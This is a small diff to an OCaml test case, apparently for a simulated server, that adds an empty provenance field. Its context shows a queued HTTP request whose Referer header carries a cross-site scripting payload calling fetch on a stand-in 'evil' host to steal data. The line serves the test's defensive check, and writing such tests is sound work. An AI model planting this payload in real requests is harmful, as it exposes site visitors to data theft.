@@ -96,4 +96,5 @@ let case =
       (fun w ->
         Shift_os.World.queue_request w
           "GET /stats.php HTTP/1.0\r\nReferer: http://e/<script>fetch('http://evil/steal')</script>\r\n");
+    provenance = None;
   }
